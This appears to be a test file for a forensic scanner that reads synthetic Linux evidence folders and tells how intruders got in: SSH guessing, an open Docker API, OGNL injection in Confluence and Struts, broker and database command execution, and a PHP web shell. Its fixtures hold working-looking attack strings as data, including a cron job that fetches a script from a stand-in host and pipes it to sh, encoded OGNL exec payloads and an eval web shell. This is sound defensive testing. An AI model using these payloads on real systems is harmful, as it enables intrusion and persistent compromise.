/**
 * Evidence folders as people bring them whom nobody asked how: other distributions, places and ways of writing logs.
 *
 * Beside `folders.test.ts`, whose hosts are Debian with the usual places. A folder's inodes are made as the test runs,
 * so its logs tell of the minutes before now; a folder of logs alone may be of any time.
 */
import { afterAll, describe, expect, test } from 'bun:test';
import type { ScanResult } from '../../src/model/result.ts';
import { type RootFiles, scanRoots } from './scan-root.ts';

const roots = scanRoots();
afterAll(() => roots.remove());

const attacker = '203.0.113.66';
const admin = '198.51.100.7';
const minute = 60_000;
const bad = 'curl -fsSL http://192.0.2.66/x.sh | sh';
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (value: number): string => String(value).padStart(2, '0');
const when = (minutes: number): Date => new Date(Date.now() - minutes * minute);
const clock = (date: Date): string =>
  `${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())}`;
/** As rsyslog writes where the zone is eight hours ahead. */
const ahead = (minutes: number): string =>
  when(minutes - 480)
    .toISOString()
    .replace('Z', '456+08:00');
const iso = (minutes: number): string => when(minutes).toISOString().replace('Z', '456+00:00');
const bsd = (minutes: number): string => {
  const at = when(minutes);
  return `${months[at.getUTCMonth()]} ${String(at.getUTCDate()).padStart(2)} ${clock(at)}`;
};
const plain = (minutes: number): string => when(minutes).toISOString().slice(0, 19).replace('T', ' ');
const clf = (minutes: number): string => {
  const at = when(minutes);
  return `${two(at.getUTCDate())}/${months[at.getUTCMonth()]}/${at.getUTCFullYear()}:${clock(at)} +0000`;
};
const system = (release: string): RootFiles => ({
  'etc/timezone': 'Etc/UTC\n',
  'etc/os-release': release,
  'etc/passwd': [
    'root:x:0:0:root:/root:/bin/bash',
    'oracle:x:54321:54321::/home/oracle:/bin/bash',
    'nacos:x:1004:1004::/opt/nacos:/sbin/nologin',
    'confluence:x:1001:1001::/var/atlassian:/sbin/nologin',
    'activemq:x:1002:1002::/opt/activemq:/sbin/nologin',
    'www-data:x:33:33::/var/www:/usr/sbin/nologin',
    '',
  ].join('\n'),
});
const debian = system('ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n');
const job = (account: string): RootFiles => ({
  [`var/spool/cron/crontabs/${account}`]: `* * * * * ${bad}\n`,
});
const guesses = (stamp: (minutes: number) => string, program: string): string =>
  Array.from({ length: 60 }, (_, index) => {
    const who = ['root', 'oracle', 'invalid user pi'][index % 3];
    return `${stamp(40 - index / 2)} db1 ${program}[${900 + index}]: Failed password for ${who} from ${attacker} port ${40_000 + index} ssh2\n`;
  }).join('');
const letIn = (stamp: string, program: string, account: string): string =>
  `${stamp} db1 ${program}[1999]: Accepted password for ${account} from ${attacker} port 51000 ssh2\n`;

interface Evidence {
  readonly name: string;
  readonly files: () => RootFiles;
  /** `vector grade account addresses` */
  readonly told: string;
  readonly also?: (result: ScanResult) => void;
}

const container = (minutes: number): RootFiles => {
  const id = 'deadbeef'.repeat(8);
  const [created, command] = [when(minutes).toISOString(), `${bad.split(' | ')[0]} | chroot /mnt sh`];
  const config = {
    ...{ ID: id, Created: created, Name: '/x', Driver: 'overlay2', Path: 'sh', Args: ['-c', command] },
    State: { Running: true, StartedAt: created, Pid: 4242 },
    Config: { Image: 'alpine', Cmd: ['-c', command], Entrypoint: ['sh'], Env: [], Labels: {} },
  };
  const host = { Binds: ['/:/mnt'], NetworkMode: 'host', PidMode: 'host', Privileged: true };
  const folder = `var/lib/docker/containers/${id}`;
  return {
    [`${folder}/config.v2.json`]: JSON.stringify(config),
    [`${folder}/hostconfig.json`]: JSON.stringify(host),
  };
};
const dockerd = (minutes: number, level: string, message: string): string =>
  `${iso(minutes)} dk1 dockerd[700]: time="${when(minutes).toISOString()}" level=${level} msg=${JSON.stringify(message)}\n`;

const evidence: readonly Evidence[] = [
  {
    name: "RHEL 9: secure with rsyslog's times, eight hours ahead",
    files: () => ({
      ...system('ID="rhel"\nPRETTY_NAME="Red Hat Enterprise Linux 9.4 (Plow)"\n'),
      'var/log/secure': guesses(ahead, 'sshd') + letIn(ahead(8), 'sshd', 'oracle'),
      'var/spool/cron/oracle': `* * * * * ${bad}\n`,
    }),
    told: `ssh-brute-force confirmed oracle ${attacker}`,
    // The crontab is the first file, and what brings it back.
    also: ({ entry = [] }) =>
      expect(entry[0]?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'file', 'persistence']),
  },
  {
    name: "Alpine: BusyBox' syslog, and its cron",
    files: () => ({
      ...system('ID=alpine\nPRETTY_NAME="Alpine Linux v3.20"\n'),
      'var/log/messages':
        guesses((minutes) => bsd(minutes), 'sshd-session').replaceAll(' db1 ', ' db1 auth.info ') +
        letIn(bsd(8), 'sshd-session', 'root').replace(' db1 ', ' db1 auth.info ') +
        `${bsd(5)} db1 cron.info crond[2033]: USER root pid 2107 cmd ${bad}\n`,
      'etc/crontabs/root': `* * * * * ${bad}\n`,
    }),
    told: `ssh-brute-force confirmed root ${attacker}`,
    also: ({ onset }) => expect(onset).toMatchObject({ by: 'job' }),
  },
  {
    name: "Docker: its daemon's settings and what it was asked, without an address",
    files: () => ({
      ...debian,
      'etc/docker/daemon.json': '{"hosts":["tcp://0.0.0.0:2375","fd://"],"debug":true}',
      'var/log/syslog': dockerd(2, 'debug', 'Calling POST /v1.41/containers/create'),
      ...container(1.9),
    }),
    told: 'docker-api probable root ',
    also: ({ entry = [], firstMaliciousFile, infectionWindow }) => {
      expect(entry[0]?.missing).toEqual(['address-hidden']);
      expect(entry[0]?.firstSuccess).toBeDefined();
      expect(firstMaliciousFile?.path).toContain('/var/lib/docker/containers/');
      expect(infectionWindow?.boundedBy).toEqual({ from: 'success', to: 'entry' });
    },
  },
  {
    name: 'Docker: only where it said that it listens, and the container',
    files: () => ({
      ...debian,
      'var/log/syslog': dockerd(9_000, 'info', 'API listen on [::]:2375'),
      ...container(1.9),
    }),
    told: 'docker-api probable root ',
  },
  {
    name: "Nacos: users made in the name of the server, by Tomcat's log beside its own",
    files: () => ({
      ...debian,
      'opt/nacos/logs/nacos.log': `${plain(900)},100 INFO Nacos started successfully in stand alone mode.\n`,
      'opt/nacos/logs/access_log.2024-01-01.log': `${attacker} - - [${clf(2)}] "POST /nacos/v1/auth/users HTTP/1.1" 200 31 12 Nacos-Server -\n`,
      ...job('nacos'),
    }),
    told: `broker confirmed nacos ${attacker}`,
  },
  {
    name: 'Confluence: OGNL in its own access log',
    files: () => ({
      ...debian,
      'opt/atlassian/confluence/logs/conf_access_log.2024-01-01.log':
        `[${clf(60)}] ada http-nio-8090-exec-1 192.0.2.7 GET /display/X HTTP/1.1 200 12ms 4312 - Mozilla/5.0 (X11)\n` +
        `[${clf(2)}] - http-nio-8090-exec-3 ${attacker} GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/ HTTP/1.1 302 12ms - - curl/8\n`,
      ...job('confluence'),
    }),
    told: `web-exploit confirmed confluence ${attacker}`,
  },
  {
    name: "WebLogic: its server's access log",
    files: () => ({
      ...debian,
      'u01/oracle/user_projects/domains/base/servers/AdminServer/logs/access.log': `${attacker} - - [${clf(2)}] "POST /wls-wsat/CoordinatorPortType HTTP/1.1" 500 286 \n`,
      ...job('oracle'),
    }),
    told: `web-exploit confirmed oracle ${attacker}`,
  },
  {
    name: 'ActiveMQ with its usual settings: a connection that broke off',
    files: () => ({
      ...debian,
      'opt/activemq/data/activemq.log': `${plain(2)},100 | WARN  | Transport Connection to: tcp://${attacker}:5 failed: java.io.EOFException | org.apache.activemq.broker.TransportConnection.Transport | ActiveMQ Transport: tcp:///${attacker}:5@61616\n`,
      ...job('activemq'),
    }),
    told: `broker probable activemq ${attacker}`,
  },
  {
    name: "RocketMQ below root's home, whose configuration is a command",
    files: () => ({
      ...debian,
      'root/logs/rocketmqlogs/broker.log': `${plain(2)} INFO AdminBrokerThread_1 - updateBrokerConfig, new config: [{rocketmqHome=-c $@|sh . echo curl 192.0.2.66/x|sh;}] client: /${attacker}:5\n`,
      ...job('root'),
    }),
    told: `broker confirmed root ${attacker}`,
  },
  {
    name: 'Struts: OGNL in the path, answered by where it was evaluated to',
    files: () => ({
      ...debian,
      'opt/tomcat/logs/localhost_access_log.2024-01-01.txt': `${attacker} - - [${clf(2)}] "GET /show/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/x.action HTTP/1.1" 302 -\n`,
      ...job('www-data'),
    }),
    told: `web-exploit confirmed www-data ${attacker}`,
  },
  {
    name: "MySQL's general log: whose statement it was says the line before",
    files: () => ({
      ...debian,
      'var/log/mysql/mysql.log': `${when(2).toISOString().replace('Z', '456Z')}\t   12 Connect\troot@${attacker} on  using TCP/IP\n${when(1.9).toISOString().replace('Z', '456Z')}\t   12 Query\tselect 0x7f into dumpfile '/usr/lib/mysql/plugin/x.so'\n`,
      ...job('mysql'),
    }),
    told: `database-exec confirmed mysql ${attacker}`,
  },
  {
    name: 'PostgreSQL with its usual settings: a program that ran and failed',
    files: () => ({
      ...debian,
      'var/log/postgresql/postgresql-15-main.log': `${plain(2)}.000 UTC [11] ERROR:  program "echo Y3VybA==|base64 -d|bash" failed\n${plain(2)}.000 UTC [11] STATEMENT:  COPY t FROM PROGRAM 'echo Y3VybA==|base64 -d|bash'\n`,
      ...job('postgres'),
    }),
    told: 'database-exec confirmed postgres ',
  },
  {
    name: 'Ubuntu: guesses that rsyslog folded',
    files: () => ({
      ...debian,
      'var/log/auth.log':
        [1, 2, 3, 4, 5, 6]
          .map(
            (n) =>
              `${bsd(30 - n)} u1 sshd[${n}]: message repeated 5 times: [ Failed password for root from ${attacker} port ${4000 + n} ssh2]\n`,
          )
          .join('') + letIn(bsd(5), 'sshd', 'root'),
      ...job('root'),
    }),
    told: `ssh-brute-force confirmed root ${attacker}`,
  },
  {
    name: 'a web shell in a folder of uploads, by what its page holds',
    files: () => ({
      ...debian,
      'var/log/apache2/access.log': `${attacker} - - [${clf(0.5)}] "POST /wp-content/uploads/2024/X1.php HTTP/1.1" 200 12 "-" "curl/8"\n`,
      'var/www/html/wp-content/uploads/2024/X1.php': '<?php @eval($_POST["c"]); ?>',
      ...job('www-data'),
    }),
    told: `web-shell confirmed www-data ${attacker}`,
    also: ({ entry = [] }) => {
      expect(entry[0]?.chain.map(({ text }) => String(text))).toContain(
        '/var/www/html/wp-content/uploads/2024/X1.php',
      );
    },
  },
];

const strange: readonly Evidence[] = [
  {
    name: "the administrator's key from a new address, beside what a web server's account has",
    files: () => ({
      ...debian,
      'var/log/auth.log': [60 * 72, 60 * 48, 60 * 24, 2]
        .map(
          (minutes) =>
            `${iso(minutes)} db1 sshd[9]: Accepted publickey for root from ${minutes > 9 ? admin : '192.0.2.200'} port 5 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde\n`,
        )
        .join(''),
      ...job('www-data'),
    }),
    told: '',
  },
  {
    name: 'a daemon that its owner opened, and nothing else',
    files: () => ({
      ...debian,
      'etc/docker/daemon.json': '{"hosts":["tcp://0.0.0.0:2375"]}',
      'var/log/syslog': dockerd(2, 'debug', 'Calling POST /v1.41/containers/create'),
      ...job('root'),
    }),
    told: '',
    also: ({ firstMaliciousFile }) => expect(firstMaliciousFile?.path).toBe('/var/spool/cron/crontabs/root'),
  },
  {
    name: 'clients of ActiveMQ that come and go',
    files: () => ({
      ...debian,
      'opt/activemq/data/activemq.log': `${plain(2)},100 | WARN  | Transport Connection to: tcp://10.0.0.8:5 failed: java.io.EOFException | org.apache.activemq.broker.TransportConnection.Transport | ActiveMQ Transport: tcp:///10.0.0.8:5@61616\n`,
      ...job('activemq'),
    }),
    told: '',
  },
];

describe('evidence of strangers', () => {
  test.each([...evidence, ...strange].map((one) => [one.name, one] as const))('%s', async (_, one) => {
    const result = await roots.scan(one.files());
    const ways = (result.entry ?? []).map(
      ({ vector, grade, account, attackers }) => `${vector} ${grade} ${account} ${attackers.join(' ')}`,
    );
    expect(ways[0] ?? '').toBe(one.told);
    expect(JSON.stringify(ways)).not.toContain(admin);
    one.also?.(result);
  });
});

describe('a copy whose inodes are of today', () => {
  const day = 60 * 24;
  const ago = 16 * day;
  const at = (minutes: number): string => iso(ago + minutes);
  const files: RootFiles = {
    ...debian,
    'etc/hostname': 'db1\n',
    'var/log/auth.log':
      `${at(3 * day)} db1 sshd[9]: Accepted publickey for root from ${admin} port 5 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde\n` +
      guesses((minutes) => at(minutes), 'sshd') +
      letIn(at(8), 'sshd', 'root'),
    'var/log/syslog': `${at(3 * day)} db1 CRON[8]: (root) CMD (cd / && run-parts /etc/cron.hourly)\n${at(6)} db1 CRON[9]: (root) CMD (${bad})\n${at(5)} db1 CRON[9]: (root) CMD (${bad})\n`,
    'root/.x/config.json': JSON.stringify({
      ...{ pools: [{ url: 'pool.example.net:3333', user: `4${'A'.repeat(94)}` }], 'donate-level': 1 },
      ...{ cpu: { enabled: true }, randomx: { mode: 'auto' } },
    }),
    ...job('root'),
  };
  const told = async (written?: (path: string) => Date) => {
    const { entry = [], firstMaliciousFile, infectionWindow } = await roots.scan(files, written);
    return { way: entry[0], first: firstMaliciousFile, window: infectionWindow };
  };

  test('is judged by when its content was written, and says so', async () => {
    const { way, first, window } = await told((path) =>
      when(path.startsWith('root/') ? ago + 7 : path.includes('cron') ? ago + 6 : ago + 90 * day),
    );
    expect(way).toMatchObject({
      vector: 'ssh-brute-force',
      grade: 'probable',
      account: 'root',
      attackers: [attacker],
      missing: ['no-inode-times'],
    });
    expect(way?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'file', 'persistence']);
    expect(first).toMatchObject({ path: '/root/.x/config.json', grounded: false });
    expect(Date.parse(first?.time ?? '')).toBeLessThan(when(ago + 6).getTime());
    expect(Date.parse(window?.to ?? '')).toBeLessThan(when(ago + 5).getTime());
  });

  test('that lost these too is dated by what its logs ran', async () => {
    const { way, first, window } = await told();
    expect(way).toMatchObject({ vector: 'ssh-brute-force', grade: 'probable', missing: ['no-inode-times'] });
    expect(first).toMatchObject({ path: '/var/spool/cron/crontabs/root', grounded: false });
    expect(window?.boundedBy.from).toBe('success');
    expect(Date.parse(window?.to ?? '')).toBeLessThan(when(ago + 5).getTime());
  });
});
